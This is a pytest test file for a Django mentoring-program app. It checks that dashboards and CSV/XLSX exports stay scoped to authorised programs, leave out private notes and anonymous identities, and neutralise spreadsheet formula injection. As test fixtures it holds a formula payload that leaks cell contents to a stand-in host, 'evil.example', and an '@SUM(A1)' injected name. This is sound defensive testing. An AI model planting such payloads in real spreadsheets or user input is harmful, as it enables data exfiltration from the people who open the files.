"""Dashboards and exports: scoped to the programs a person may report on, and safe to open."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from evaluation.exporting import BOM
from evaluation.services import checkin_answer, survey_answer, survey_invitations_for_approval
from programs.models import Topic
from relationships.models import Goal
from sessions.models import PrivateNote
from sessions.services import session_log_save
from tests.evaluation.helpers import (
    CHECKIN_EXPORT_HEADER,
    SESSION_EXPORT_HEADER,
    make_application,
    make_coordinator,
    make_meeting,
    make_pair,
    make_program,
    make_reporter,
    make_survey,
)
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _checkin(match, *, score=3, blocking="", days_ago=0):
    from evaluation.models import CheckIn

    today = timezone.localdate()
    checkin = CheckIn.objects.create(
        match=match,
        application=match.mentee,
        opens_on=today - timedelta(days=days_ago),
        due_on=today + timedelta(days=7),
    )
    return checkin_answer(checkin=checkin, score=score, met=True, blocking=blocking)


@pytest.fixture
def world():
    """Program A with a coordinator and a pair that checked in; program B likewise."""
    a = make_program(name="Alpha", slug="alpha")
    b = make_program(name="Beta", slug="beta")
    pair_a = make_pair(a, days_ago=5, mentee=make_application(a, user__display_name="@SUM(A1)"))
    pair_b = make_pair(b, days_ago=5)
    _checkin(pair_a, score=4, blocking=INJECTION)
    _checkin(pair_b, score=2, blocking="Beta's secret")
    return {
        "a": a,
        "b": b,
        "pair_a": pair_a,
        "pair_b": pair_b,
        "coordinator_a": make_coordinator(a),
        "reporter_b": make_reporter(b),
    }


def _dashboard(program) -> str:
    return reverse("evaluation:program-dashboard", args=[program.pk])


def _export(dataset, fmt, *programs) -> str:
    url = reverse("evaluation:export", args=[dataset, fmt])
    return url + "".join(("&" if i else "?") + f"program={p.pk}" for i, p in enumerate(programs))


def _csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :], newline="")))


def _xlsx(response) -> dict[str, list[list]]:
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return {
        name: [[cell.value for cell in row] for row in book[name].iter_rows()]
        for name in book.sheetnames
    }


def test_coordinator_sees_their_programs_dashboard(client, world):
    client.force_login(world["coordinator_a"])

    response = client.get(_dashboard(world["a"]))

    assert response.status_code == 200
    page = response.content.decode()
    assert "<bdi>Alpha</bdi>: program health" in page
    assert 'id="funnel-data" type="application/json"' in page
    assert "vendor/chartjs/chart.umd.min.js" in page
    assert response["Cache-Control"].startswith("max-age=0")


@pytest.mark.parametrize("who", ["coordinator_a", "reporter_b", "participant", "staff"])
def test_a_dashboard_outside_ones_programs_is_404(client, world, who):
    users = {
        "participant": lambda: world["pair_b"].mentee.user,
        "staff": lambda: UserFactory(is_staff=True),
    }
    client.force_login(users[who]() if who in users else world[who])
    other = world["a"] if who == "reporter_b" else world["b"]

    assert client.get(_dashboard(other)).status_code == 404


def test_reporting_staff_see_only_their_programs(client, world):
    client.force_login(world["reporter_b"])

    listed = client.get(reverse("evaluation:program-list")).context["programs"]

    assert list(listed) == [world["b"]]
    assert client.get(_dashboard(world["b"])).status_code == 200


def test_superusers_see_every_program(client, world):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))

    assert client.get(_dashboard(world["a"])).status_code == 200
    assert client.get(_dashboard(world["b"])).status_code == 200


def test_check_in_csv_holds_only_the_users_programs_rows(client, world):
    client.force_login(world["coordinator_a"])

    rows = _csv(client.get(_export("checkins", "csv")))

    pair = world["pair_a"]
    checkin = pair.checkins.get()
    assert rows == [
        CHECKIN_EXPORT_HEADER,
        [
            "Alpha",
            str(pair.pk),
            pair.mentee.user.email,
            "'@SUM(A1)",
            "mentee",
            "",
            checkin.opens_on.isoformat(),
            checkin.due_on.isoformat(),
            checkin.answered_at.isoformat(),
            "4",
            "yes",
            "'" + INJECTION,
        ],
    ]


def test_an_export_of_every_program_follows_a_change_of_reporting_rights(client, world):
    """With no program chosen an export covers every program the person may report on, read
    by the ids kept with their rights: being named reporting staff of another program shows
    on the next download, and so does being taken off."""
    client.force_login(world["coordinator_a"])
    programs = lambda: {row[0] for row in _csv(client.get(_export("checkins", "csv")))[1:]}  # noqa: E731

    assert programs() == {"Alpha"}

    world["b"].reporting_staff.add(world["coordinator_a"])
    assert programs() == {"Alpha", "Beta"}
    assert client.get(_export("checkins", "csv", world["b"])).status_code == 200

    world["b"].reporting_staff.remove(world["coordinator_a"])
    assert programs() == {"Alpha"}
    assert client.get(_export("checkins", "csv", world["b"])).status_code == 404


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("dataset", ["checkins", "sessions", "survey-responses"])
def test_exporting_another_program_is_404(client, world, dataset, fmt):
    client.force_login(world["coordinator_a"])

    assert client.get(_export(dataset, fmt, world["b"])).status_code == 404
    assert client.get(_export(dataset, fmt, world["a"], world["b"])).status_code == 404
    assert client.get(_export(dataset, fmt) + "?program=nonsense").status_code == 404


def test_people_with_no_program_to_report_on_get_404_for_exports(client, world):
    client.force_login(world["pair_a"].mentee.user)

    assert client.get(_export("checkins", "csv")).status_code == 404
    assert client.get(reverse("evaluation:impact")).status_code == 404


def test_unknown_datasets_and_formats_are_404(client, world):
    client.force_login(world["coordinator_a"])

    assert client.get(_export("passwords", "csv")).status_code == 404
    assert client.get(_export("checkins", "pdf")).status_code == 404


def test_check_in_xlsx_reads_back_inert_and_scoped(client, world):
    client.force_login(world["reporter_b"])
    response = client.get(_export("checkins", "xlsx"))

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (f'attachment; filename="beta-checkins-{today}.xlsx"')
    [header, row] = _xlsx(response)["Check-ins"]
    assert header[:4] == ["program", "match_id", "email", "name"]
    assert (row[0], row[9], row[11]) == ("Beta", 2, "Beta's secret")


def test_formula_injection_reads_back_inert_through_both_export_views(client, world):
    client.force_login(world["coordinator_a"])

    [_, csv_row] = _csv(client.get(_export("checkins", "csv", world["a"])))
    [_, xlsx_row] = _xlsx(client.get(_export("checkins", "xlsx", world["a"])))["Check-ins"]

    assert (csv_row[3], csv_row[11]) == ("'@SUM(A1)", "'" + INJECTION)
    assert (xlsx_row[3], xlsx_row[11]) == ("'@SUM(A1)", "'" + INJECTION)


def _logged_session(pair):
    """A held session both sides logged (topics, goal progress, shared and private notes)
    and a booked one not yet logged."""
    program = pair.program
    cv, interviews = (Topic.objects.create(program=program, name=n) for n in ("CV", "Interviews"))
    job, network = (Goal.objects.create(match=pair, title=n) for n in ("Job", "Network"))
    meeting = make_meeting(pair, days_ago=2)
    progress = {f"goal_{network.pk}": "done", f"goal_{job.pk}": "some"}
    mentor_log = session_log_save(
        meeting=meeting, author=pair.mentor.user, outcome="held", duration_minutes=50,
        topics=[interviews, cv], sections={"goals": progress},
        shared_notes="SHARED-NOTE-TEXT", private_note="PRIVATE-NOTE-OF-THE-MENTOR",
    )  # fmt: skip
    mentee_log = session_log_save(
        meeting=meeting, author=pair.mentee.user, outcome="held", duration_minutes=60,
        shared_notes=INJECTION, private_note="PRIVATE-NOTE-OF-THE-MENTEE",
    )  # fmt: skip
    upcoming = make_meeting(pair, days_ago=-3)
    return meeting, mentor_log, mentee_log, upcoming


def test_session_export_has_topics_goal_progress_and_shared_notes_never_private_ones(client, world):
    pair = world["pair_a"]
    meeting, mentor_log, mentee_log, upcoming = _logged_session(pair)
    client.force_login(world["coordinator_a"])

    response = client.get(_export("sessions", "csv"))
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body[len(BOM) :], newline="")))

    assert rows[0] == SESSION_EXPORT_HEADER
    assert [(r[1], r[6], r[13], r[14], r[15], *r[17:]) for r in rows[1:]] == [
        (str(meeting.pk), "60", pair.mentor.user.email, "held", "50",
         "CV; Interviews", "Job: Some progress; Network: Achieved", "SHARED-NOTE-TEXT"),
        (str(meeting.pk), "60", pair.mentee.user.email, "held", "60", "", "", "'" + INJECTION),
        (str(upcoming.pk), "60", "", "", "", "", "", ""),
    ]  # fmt: skip
    assert [r[16] for r in rows[1:3]] == [
        mentor_log.created_at.isoformat(),
        mentee_log.created_at.isoformat(),
    ]
    assert "PRIVATE-NOTE" not in body
    assert PrivateNote.objects.count() == 2


def test_session_xlsx_never_holds_a_private_note(client, world):
    _logged_session(world["pair_a"])
    client.force_login(world["coordinator_a"])

    [header, *rows] = _xlsx(client.get(_export("sessions", "xlsx")))["Sessions"]

    assert header == SESSION_EXPORT_HEADER
    assert [row[17:] for row in rows] == [
        ["CV; Interviews", "Job: Some progress; Network: Achieved", "SHARED-NOTE-TEXT"],
        [None, None, "'" + INJECTION],
        [None, None, None],
    ]
    assert not any("PRIVATE-NOTE" in str(cell) for row in rows for cell in row)


def test_survey_response_export_carries_no_identity_for_anonymous_surveys(client, world):
    program = world["a"]
    make_survey(program, title="Named", questions=[("Confidence", "likert")])
    make_survey(program, title="Anonymous", anonymous=True, questions=[("Mood", "likert")])
    person = world["pair_a"].mentee
    for invitation in survey_invitations_for_approval(application=person):
        [question] = invitation.survey.questions.all()
        survey_answer(invitation=invitation, answers={question.pk: 4})
    client.force_login(world["coordinator_a"])

    rows = _csv(client.get(_export("survey-responses", "csv")))

    by_survey = {row[1]: row for row in rows[1:]}
    named, anonymous = by_survey["Named"], by_survey["Anonymous"]
    assert named[3:9] == ["no", named[4], person.user.email, "'@SUM(A1)", "mentee", ""]
    assert anonymous[3] == "yes" and anonymous[5:10] == ["", "", "", "", ""]
    assert person.user.email not in ",".join(anonymous)
    assert anonymous[12:] == ["Mood", "4"]


def test_impact_page_and_downloads_are_scoped(client, world):
    client.force_login(world["coordinator_a"])

    page = client.get(reverse("evaluation:impact"))
    assert page.status_code == 200
    assert page.context["report"].programs == [world["a"]]
    url = reverse("evaluation:impact-export", args=["xlsx"])
    assert client.get(f"{url}?program={world['b'].pk}").status_code == 404
    sheets = _xlsx(client.get(url))
    assert list(sheets) == ["Impact", "Programs", "Method"]
    assert sheets["Programs"] == [["program"], ["Alpha"]]
